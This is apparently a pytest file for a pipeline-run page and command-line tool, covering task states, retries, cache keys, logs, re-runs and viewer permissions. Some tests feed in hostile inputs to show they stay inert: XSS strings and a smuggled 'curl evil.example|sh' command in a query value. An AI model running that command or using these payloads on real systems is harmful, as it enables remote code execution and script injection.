"""The page of a pipeline's run on a real store: its graph with states, why a task ran, what it printed, and running it again."""

import json
import threading
import time

import pytest
import uvicorn
from fastapi import FastAPI
from starlette.responses import JSONResponse
from starlette.testclient import TestClient

from regie.app.api import pipelines
from regie.app.doors import guard
from regie.app.pages import pipeline_list, pipeline_run, pipeline_task
from regie.app.policy import OWN
from regie.app.workspace_path import WorkspacePath
from regie.base.errors import RegieError
from regie.cli.root import run as command
from regie.pipelines import queries
from regie.store import actors, audit
from regie.store.types import LOCAL
from regie.tracking import queries as tracked
from tests.support.place import NOW, Place
from tests.support.steps import Steps, node

DOCS = {("GET", one): "public" for one in ("/openapi.json", "/docs", "/docs/oauth2-redirect", "/redoc")}
TRAIN = (node("read", dataset="rows"), node("fit", "read", retries=2), node("score", "fit", "read"))
HOSTILE = "<img src=x onerror=alert(1)>\u202e" + "n" * 10_000


@pytest.fixture
def steps(sqlite_store, tmp_path):
    return Steps.of(Place(sqlite_store, tmp_path))


@pytest.fixture
def routes(steps, tmp_path):
    made = FastAPI()
    for one in (pipelines, pipeline_list, pipeline_run, pipeline_task):
        made.include_router(one.router)
    made.add_exception_handler(RegieError, lambda _, error: JSONResponse(error.body(), error.status))
    made.state.predictions = tmp_path
    paths = {
        (method, route.path)
        for one in (pipelines, pipeline_list, pipeline_run, pipeline_task)
        for route in one.router.routes
        for method in route.methods
    }
    guard(made, steps.store, {one: OWN[one] for one in paths} | DOCS)
    made.add_middleware(WorkspacePath, store=steps.store)
    return made


@pytest.fixture
def app(routes):
    return TestClient(routes)


@pytest.fixture
def address(routes):
    """The same on a real port, for commands."""
    server = uvicorn.Server(uvicorn.Config(routes, port=0, log_level="error", lifespan="off", ws="none"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    thread.join()


def shown(app, path, **query):
    answer = app.get(f"/w/loop/api/v1/{path}", params=query)
    assert answer.status_code == 200, answer.text
    return answer.json()


def states(page):
    return {one["name"]: one["spots"][0]["state"] for one in page["nodes"]}


def test_the_graph_shows_each_task_with_its_state_before_during_and_after(steps, app):
    queued = steps.queued(depth=3)
    page = shown(app, f"pages/pipeline-run/{queued}")
    assert (page["graph"], page["nodes"], page["run"]["state"]) == ("none", [], "queued")
    assert page["run"]["params"] == [{"name": "depth", "value": "3"}]
    run = steps.begun(*TRAIN, snapshots={"rows": "sha256:" + "5" * 64})
    assert states(shown(app, f"pages/pipeline-run/{run}")) == {"read": "waiting", "fit": "waiting", "score": "waiting"}
    steps.task(run, "read")
    steps.task(run, "fit", "running")
    page = shown(app, f"pages/pipeline-run/{run}")
    assert states(page) == {"read": "finished", "fit": "running", "score": "waiting"}
    assert [(one["name"], one["takes"], one["datasets"]) for one in page["nodes"]] == [
        ("read", [], ["rows"]), ("fit", ["read"], []), ("score", ["fit", "read"], []),
    ]  # fmt: skip
    assert page["counts"] == {"finished": 1, "running": 1, "waiting": 1}
    assert page["run"]["snapshots"] == [{"dataset": "rows", "digest": "sha256:" + "5" * 64, "rows": None, "state": ""}]


def test_attempts_that_failed_are_kept_apart_and_what_was_not_reached_says_so(steps, app):
    run = steps.begun(*TRAIN)
    steps.task(run, "read")
    steps.task(run, "fit", "failed")
    assert states(shown(app, f"pages/pipeline-run/{run}"))["fit"] == "retrying"
    steps.task(run, "fit", "failed", attempt=2, error={"type": "MemoryError", "message": "too large", "traceback": "File y"})
    steps.end(run, "failed", "task fit: too large")
    page = shown(app, f"pages/pipeline-run/{run}")
    assert states(page) == {"read": "finished", "fit": "failed", "score": "unreached"}
    assert [(one["attempt"], one["error_type"]) for one in page["nodes"][1]["spots"][0]["attempts"]] == [
        (1, "ValueError"),
        (2, "MemoryError"),
    ]
    task = shown(app, f"pages/pipeline-run/{run}/task", name="fit", window="all")
    assert (task["attempts"], task["chosen"]["attempt"], task["chosen"]["error"]["message"]) == ([1, 2], 2, "too large")
    assert task["chosen"]["error"]["command"] == f"regie run logs {run}/fit"
    first = shown(app, f"pages/pipeline-run/{run}/task", name="fit", window="all", attempt=1)
    assert first["chosen"]["error"]["traceback"] == "File x"
    waits = shown(app, f"pages/pipeline-run/{run}/task", name="score", window="all")
    assert (waits["chosen"], waits["state"], [one["task"] for one in waits["inputs"]]) == (None, "unreached", ["fit", "read"])
    led = shown(app, f"pages/pipeline-run/{run}/task", name="fit", window="all;curl evil.example|sh")
    assert led["command"] == f"regie why '{run}/fit:all;curl evil.example|sh'"  # what a link says is copied into no shell


def test_a_task_says_which_part_of_its_key_differed_and_what_the_cache_saved(steps, app):
    before = steps.begun(*TRAIN)
    parts = {"step": "flow:read", "parameter depth": "3", "code flow.read": "sha256:" + "a" * 64, "lock": "sha256:" + "3" * 64}
    made = steps.task(before, "read", parts=parts)
    steps.end(before)
    run = steps.begun(*TRAIN)
    steps.task(run, "read", parts=parts | {"parameter depth": "4", "code flow.read": "sha256:" + "b" * 64})
    why = shown(app, f"pages/pipeline-run/{run}/task", name="read", window="all")["chosen"]["why"]
    assert (why["rule"], why["before_run"], why["differing"]) == ("differs", before, 2)
    assert [(one["sort"], one["name"], one["before"], one["now"]) for one in why["parts"] if one["differs"]] == [
        ("parameter", "depth", "3", "4"), ("code", "flow.read", "sha256:" + "a" * 64, "sha256:" + "b" * 64),
    ]  # fmt: skip
    again = steps.begun(*TRAIN)
    steps.task(again, "read", "cached", parts=parts, cached_from=made["id"])
    page = shown(app, f"pages/pipeline-run/{again}")
    (attempt,) = page["nodes"][0]["spots"][0]["attempts"]
    assert (attempt["state"], attempt["computed_run"], page["saved_ms"] >= 0) == ("cached", before, True)
    chosen = shown(app, f"pages/pipeline-run/{again}/task", name="read", window="all")["chosen"]
    assert (chosen["why"]["rule"], chosen["computed_run"]) == ("cached", before)


def test_a_graph_of_200_tasks_is_one_answer_of_bounded_size(steps, app):
    parts = [node(f"part-{at}", "read") for at in range(198)]
    run = steps.begun(node("read", dataset="rows"), *parts, node("join", *(one.name for one in parts)))
    steps.task(run, "read")
    for one in parts[:50]:
        steps.task(run, one.name, parts={f"code flow.{at}": "sha256:" + "a" * 64 for at in range(20)})
    answer = app.get(f"/w/loop/api/v1/pages/pipeline-run/{run}")
    page = answer.json()
    assert len(page["nodes"]) == 200
    assert page["counts"] == {"finished": 51, "waiting": 149}
    assert len(page["nodes"][-1]["takes"]) == 198
    assert len(answer.content) < 200_000  # no part of a key, no input, no output


def test_what_others_wrote_comes_as_text_and_is_cut(steps, app):
    run = steps.begun(node(HOSTILE[:128], dataset="rows"), note=HOSTILE)
    steps.task(run, HOSTILE[:128], "failed", error={"type": "E", "message": HOSTILE, "traceback": "t" * 100_000})
    steps.end(run, "failed", HOSTILE)
    page = shown(app, f"pages/pipeline-run/{run}")
    assert page["run"]["error"].startswith("<img src=x onerror=alert(1)>")
    assert len(page["nodes"][0]["spots"][0]["attempts"][0]["error"]) <= 301
    assert len(page["run"]["params"][0]["value"]) <= 2_001
    task = shown(app, f"pages/pipeline-run/{run}/task", name=HOSTILE[:128], window="all")
    assert len(task["chosen"]["error"]["traceback"]) == 40_000


def test_a_log_is_read_by_offsets_and_only_in_its_workspace(steps, app):
    run = steps.begun(*TRAIN)
    task = steps.task(run, "read", log=b"one\n\x1b[31m<script>alert(1)</script>\n")
    log = shown(app, f"tasks/{task['id']}/log")
    assert (log["text"], log["live"], log["end_bytes"]) == ("one\n\x1b[31m<script>alert(1)</script>\n", False, 35)
    assert shown(app, f"tasks/{task['id']}/log", from_bytes=4)["text"].startswith("\x1b[31m<script>")
    for path in (f"tasks/{task['id']}/log", f"pages/pipeline-run/{run}", f"pages/pipeline-run/{run}/task?name=read"):
        assert app.get(f"/api/v1/{path}").status_code == 404


def test_running_again_takes_the_same_snapshots_and_names_what_is_computed_anew(steps, app):
    run = steps.begun(*TRAIN, snapshots={"rows": "sha256:" + "5" * 64}, depth=3)
    assert shown(app, f"pages/pipeline-run/{run}")["again"]["why"] == {
        "code": "run.live",
        "values": {"state": "running", "pipeline": "train"},
    }
    assert app.post(f"/w/loop/api/v1/runs/{run}/again", json={}).status_code == 409
    steps.end(run)
    page = shown(app, f"pages/pipeline-run/{run}")
    assert (page["again"]["allowed"], page["cancel"]["why"]["code"]) == (True, "run.ended")
    answer = app.post(f"/w/loop/api/v1/runs/{run}/again", json={"from_tasks": ["fit"], "reason": "look again"})
    assert answer.status_code == 200, answer.text
    with steps.store.read() as db:
        made = queries.run(db, answer.json()["run_id"])
        (said,) = [one for one in audit.records(db, 0, 1000) if one["action"] == "pipeline.run" and one["reason"] == "look again"]
    assert (made["again_of"], made["fresh"], made["params"]) == (run, ["fit", "score"], {"depth": 3})
    assert (made["snapshots"], made["as_of_ms"], made["code_digest"]) == ({"rows": "sha256:" + "5" * 64}, NOW, steps.code)
    assert (said["actor"], said["target"]) == ("local", "train")
    steps.task(made["run_id"], "fit")
    why = shown(app, f"pages/pipeline-run/{made['run_id']}/task", name="fit", window="all")["chosen"]["why"]
    assert why["rule"] == "asked"
    assert app.post(f"/w/loop/api/v1/runs/{run}/again", json={"from_tasks": ["nothing"]}).status_code == 404


@pytest.mark.parametrize(("lost", "code"), [("code", "code.gone"), ("graph", "graph.not_kept")])
def test_what_is_lost_is_why_a_run_cannot_be_repeated(steps, app, lost, code):
    run = steps.begun(*TRAIN)
    steps.task(run, "fit")
    steps.end(run)
    with steps.store.read() as db:
        steps.store.blobs.path(queries.run(db, run)["graph" if lost == "graph" else "code_digest"]).unlink()
    acts = shown(app, f"pages/pipeline-run/{run}/task", name="fit", window="all")["again"]
    assert (acts["allowed"], acts["why"]["code"]) == (False, code)
    assert app.post(f"/w/loop/api/v1/runs/{run}/again", json={"from_tasks": ["fit"]}).status_code == 409
    assert shown(app, f"pages/pipeline-run/{run}")["graph"] == ("inferred" if lost == "graph" else "planned")


def test_who_may_only_look_sees_why_the_buttons_are_off_and_is_refused(steps, app):
    run = steps.begun(*TRAIN)
    steps.end(run)
    with steps.store.change(LOCAL, "actor.add", "eve", workspace="loop") as tx:
        token = actors.add(tx, "eve", ["viewer"])
    eve = {"authorization": f"Bearer {token}"}
    again = app.get(f"/w/loop/api/v1/pages/pipeline-run/{run}", headers=eve).json()["again"]
    assert again["why"] == {"code": "no_right", "values": {"action": "pipeline.run", "actor": "eve"}}
    assert app.post(f"/w/loop/api/v1/runs/{run}/again", json={}, headers=eve).status_code == 403


def test_the_list_of_pipelines_has_their_newest_runs_and_an_empty_workspace_says_so(steps, app):
    ids = [steps.begun(*TRAIN) for _ in range(14)]
    steps.task(ids[-1], "read")
    steps.end(ids[-1])
    (train,) = shown(app, "pages/pipelines")["pipelines"]
    assert (train["name"], train["function"], train["windows"], len(train["runs"])) == ("train", "flow:train", ["all"], 12)
    assert (train["runs"][0]["run_id"], train["runs"][0]["tasks"]) == (ids[-1], {"finished": 1})
    assert train["run"]["command"] == "regie pipeline run train"
    with steps.store.read() as db:
        told = tracked.run(db, ids[-1], "loop").start_wall_ms
    assert train["runs"][0]["queued_wall_ms"] == told  # the moment that Runs shows of it
    assert app.get("/api/v1/pages/pipelines").json() == {"applied": False, "pipelines": []}
    assert json.dumps(train)


def test_a_step_that_is_called_many_times_is_compared_with_the_same_call_of_the_last_run(steps, app):
    """Not with the call before it in the same run, which differs by its argument alone."""
    for _ in range(2):
        run = steps.begun(node("part"), node("part-2"))
        for at, name in enumerate(("part", "part-2")):
            steps.task(run, name, step="flow:part", parts={"step": "flow:part", "parameter number": str(at)})
        steps.end(run)
    why = shown(app, f"pages/pipeline-run/{run}/task", name="part-2", window="all")["chosen"]["why"]
    assert (why["rule"], why["differing"], why["before_run"] != run) == ("nothing.differs", 0, True)


def test_the_command_runs_again_from_a_task_and_follows_a_log_to_its_end(steps, address, capsys):
    run = steps.begun(*TRAIN)
    steps.task(run, "read", log=b"one line\n")
    steps.end(run)
    here = ["--server", address, "--workspace", "loop"]
    assert command(["run", "logs", f"{run}/read", "--follow", *here]) == 0
    assert capsys.readouterr().out == "one line\n"
    assert command(["run", "again", run, "--from", "fit", "--dry-run", *here]) == 0
    assert "fit and what follows anew" in capsys.readouterr().err
    assert command(["run", "again", run, "--from", "fit", *here]) == 0
    with steps.store.read() as db:
        assert queries.run(db, capsys.readouterr().out.strip())["fresh"] == ["fit", "score"]
    assert command(["run", "again", run, "--from", "nothing", *here]) == 5
